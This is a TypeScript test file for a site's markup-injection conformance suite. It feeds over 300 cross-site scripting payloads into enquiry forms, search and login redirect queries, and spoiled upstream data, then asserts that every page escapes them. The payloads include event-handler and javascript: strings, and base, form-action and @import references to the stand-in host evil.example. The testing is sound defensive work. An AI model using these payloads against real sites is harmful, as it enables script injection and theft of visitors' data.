import type { IncomingMessage, ServerResponse } from "node:http";
import { describe, expect, it, onTestFinished } from "vitest";
import { forward } from "#server/conformance/recording/forward.ts";
import { makeVisitor } from "#tests/support/buyer.ts";
import { parseDocument } from "#tests/support/html.ts";
import { serveSite } from "#tests/support/in-process.ts";
import { readBytes, serveLocally } from "#tests/support/local-server.ts";
import { shareSiteOver } from "#tests/support/share-site.ts";
import { newGuest } from "#tests/support/sign-in.ts";
import { fetchToken, makeSessionCookie } from "#tests/support/signed-in.ts";
import { caseCount } from "#tests/support/suite.ts";
import { newVisitor, nextAddress, type VisitedPage } from "#tests/support/visitor.ts";
import { accountPaths, publicPaths } from "./deviations/pages.ts";

/** Tells the replies of the sandbox with a payload in each text once `isSpoiling`. */
const openSpoiled = () =>
	serveLocally((request, response) => {
		spoil(request, response).catch(() => response.destroy());
	});
const { sandbox, site, front: upstream } = shareSiteOver(openSpoiled);
let isSpoiling = false;
let rejection: string | null = null;

/** Every payload would leave an element `x-probe`, an attribute `data-probe` or an address of script. */
const openings = [
	"",
	'"',
	"'",
	'">',
	...["'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "</noscript>"],
];
const bodies = [
	...["<x-probe>", "<img src=x data-probe onerror=alert(1)>", "<svg/data-probe/onload=alert(1)>"],
	...[" data-probe onfocus=alert(1) autofocus x=", "<script data-probe>alert(1)</script>"],
	...["<iframe data-probe srcdoc='<script>alert(1)</script>'>", "<a data-probe href=javascript:alert(1)>x</a>"],
	...["<math><mtext><x-probe></mtext></math>", "<style data-probe>@import'//evil.example'</style>"],
	...["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<x-probe>"],
	...["<base href=//evil.example/ data-probe>", "<meta http-equiv=refresh data-probe content=0;url=//evil.example>"],
	...["<form data-probe action=//evil.example><button>", "<template><x-probe></template>", "&lt;x-probe&gt;<x-probe"],
	...["<<x-probe>>", "<x-probe\u0000>", "\u003cx-probe\u003e", "{{alert(1)}}#{alert(1)}<x-probe/>"],
	...["<!--<x-probe>-->", "<input data-probe onfocus=alert(1) autofocus>"],
];
const payloads = openings.flatMap((opening) => bodies.map((body) => `${opening}${body}`));
/** Visitors of the quick suite type each opening with every third body, and each body with every third opening. */
const typedPayloads = openings.flatMap((opening, at) =>
	bodies.filter((_, index) => (index + at) % caseCount(3, 1) === 0).map((body) => `${opening}${body}`),
);

/** Escapes a text as React writes it. */
const escaped = (text: string): string =>
	text
		.replaceAll("&", "&amp;")
		.replaceAll("<", "&lt;")
		.replaceAll(">", "&gt;")
		.replaceAll('"', "&quot;")
		.replaceAll("'", "&#x27;");

/** The text of a payload in a query of the site's own leads nowhere else. */
const leadsAway = (address: string): boolean =>
	!URL.canParse(address, site.origin) || new URL(address, site.origin).hostname.endsWith("evil.example");

/** A payload in a file is harmless text as long as no browser shows the file, and no line of a calendar is the payload's own. */
function faultsOfDownload(type: string, headers: Headers, text: string): string[] {
	const faults: string[] = [];
	if (!/^attachment; filename="[\w.-]+"$/.test(headers.get("content-disposition") ?? "")) faults.push("is shown");
	if (headers.get("x-content-type-options") !== "nosniff") faults.push("is sniffed");
	if (!headers.get("content-security-policy")?.includes("sandbox")) faults.push("is not sandboxed");
	if (type.startsWith("text/calendar"))
		for (const line of text.split("\r\n"))
			if (!/^(?: |$|[A-Z-]+[:;])/.test(line) || /^X-PROBE/i.test(line)) faults.push(line);
	return faults;
}

/** Finds what would run or load, or elements of a payload: browsers make those of pages and XML, not of downloads. */
function foundIn({ html, headers }: Pick<VisitedPage, "html" | "headers">): string[] {
	const type = headers.get("content-type") ?? "";
	if (/^(?:application\/pdf|text\/calendar)\b/.test(type)) return faultsOfDownload(type, headers, html);
	const document = parseDocument(html);
	const attributes = [...document.querySelectorAll("*")].flatMap((element) =>
		[...element.attributes].map(({ name, value }) => ({ tag: element.tagName, name, value })),
	);
	const active = attributes.filter(
		({ name, value }) =>
			/^on|^data-probe$|^srcdoc$/i.test(name) ||
			(/^(?:href|src|action|formaction|poster|xlink:href)$/i.test(name) &&
				(/^[\s\p{Cc}]*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|data:text|vbscript)/iu.test(value) || leadsAway(value))),
	);
	const elements = [...document.querySelectorAll("x-probe, iframe, object, embed, base, meta[http-equiv=refresh]")];
	return [
		...active.map(({ tag, name, value }) => `<${tag} ${name}=${value}>`),
		...elements.map(({ tagName }) => tagName),
	];
}

const textName =
	/(?:name|title|label|heading|text|city|author|caption|alt|question|answer|comment|description|message)$/i;
const isText = (name: string, value: string): boolean =>
	/[A-Za-z]\S*\s|<\w/.test(value) || (textName.test(name) && /[A-Za-z]/.test(value));
let spoiled = 0;

function withPayloads(value: unknown, name = ""): unknown {
	if (Array.isArray(value)) return value.map((one) => withPayloads(one, name));
	if (typeof value === "object" && value !== null)
		return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, withPayloads(inner, key)]));
	if (typeof value !== "string" || !isText(name, value)) return value;
	spoiled += 1;
	return `${value} ${payloads[spoiled % payloads.length]}`;
}

async function spoil(request: IncomingMessage, response: ServerResponse): Promise<void> {
	const sent = await readBytes(request);
	const { method = "GET", url = "/", headers } = request;
	const [path = "", query = ""] = url.split(/\?(.*)/s);
	if (rejection !== null && method !== "GET") {
		response.writeHead(400, { "content-type": "application/json" });
		response.end(JSON.stringify({ statuscode: 400, message: rejection }));
		return;
	}
	const answer = await forward(sandbox.origin, { method, path, query, headers }, sent);
	const isJson = String(answer.headers["content-type"]).includes("json");
	const body = isSpoiling && isJson ? JSON.stringify(withPayloads(JSON.parse(String(answer.bytes)))) : answer.bytes;
	response.writeHead(answer.status, { "content-type": String(answer.headers["content-type"]) });
	response.end(body);
}

const names = ["name", "email", "mobileno", "comments", "packagename", "person", "from"];

describe("[S28] markup", () => {
	it(`of ${typedPayloads.length} kinds, each in two fields in turn, stays text where it is shown again`, async () => {
		expect(payloads.length).toBeGreaterThanOrEqual(300);
		const guest = await newGuest(site.origin);
		const shown = new Set<string>();
		const texts = typedPayloads.filter((text) => !text.includes("\0"));
		for (let at = 0; at < texts.length; at += 3) {
			const sent = texts.slice(at, at + 3);
			// Each payload stands in another field at each turn.
			const fields = Object.fromEntries(names.map((name, index) => [name, sent[(index + at / 3) % sent.length] ?? ""]));
			const page = await guest.ask("/enquiry", { ...fields, countrycode: "IN" });
			expect(page.status).toBe(422);
			expect(foundIn(page)).toEqual([]);
			for (const payload of sent) if (page.html.includes(escaped(payload.trim()))) shown.add(payload);
		}
		expect(shown.size).toBeGreaterThan(typedPayloads.length / 2);
		for (const payload of typedPayloads.filter((_, at) => at % 10 === 0)) {
			const results = await guest.get(`/search?q=${encodeURIComponent(payload)}`);
			expect(foundIn(results)).toEqual([]);
			const login = await guest.get(`/login?redirectTo=${encodeURIComponent(payload)}`);
			expect(foundIn(login)).toEqual([]);
		}
	}, 300_000);

	it("in the upstream's messages stays text where they are shown", async () => {
		const visitor = makeVisitor(site.origin, await fetchToken(sandbox.origin, "asha@example.com"));
		let shown = 0;
		const rejected = payloads.filter((_, at) => at % caseCount(7, 1) === 0);
		for (const payload of rejected) {
			rejection = `No such thing ${payload}`;
			const page = await visitor.post("/profile/edit", { firstName: "Asha", email: "asha@example.com" });
			expect(page.status).toBe(422);
			expect(foundIn(page)).toEqual([]);
			if (page.html.includes("No such thing")) shown += 1;
		}
		rejection = null;
		expect(shown).toBe(rejected.length);
	}, 300_000);

	it("in every text of the upstream stays text on every page", async () => {
		const asha = await fetchToken(sandbox.origin, "asha@example.com");
		isSpoiling = true;
		const fresh = await serveSite(upstream.origin, { TRUST_HOPS: "1" });
		onTestFinished(() => {
			isSpoiling = false;
			return fresh.stop();
		});
		const faults: unknown[] = [];
		const shown = new Set<string>();
		const pages = [
			...publicPaths.filter((path) => !path.endsWith(".pdf")).map((path) => [path, ""] as const),
			...accountPaths.map((path) => [path, makeSessionCookie(asha)] as const),
		];
		let rendered = 0;
		for (const [path, cookie] of pages) {
			const visitor = newVisitor(fresh.origin, { "x-forwarded-for": nextAddress() });
			if (cookie) visitor.carry(cookie);
			const page = await visitor.get(path);
			const { status, html } = page;
			const found = foundIn(page);
			if (status < 300) rendered += 1;
			if (status >= 500 || found.length > 0) faults.push([path, status, found]);
			for (const payload of payloads) if (html.includes(escaped(payload.trim()))) shown.add(payload);
		}
		expect(faults).toEqual([]);
		expect(spoiled).toBeGreaterThan(4 * payloads.length);
		// A booking whose words are others may have no page to cancel it.
		expect(rendered).toBeGreaterThanOrEqual(pages.length - 1);
		expect(shown.size).toBeGreaterThan(payloads.length / 4);
	}, 300_000);
});
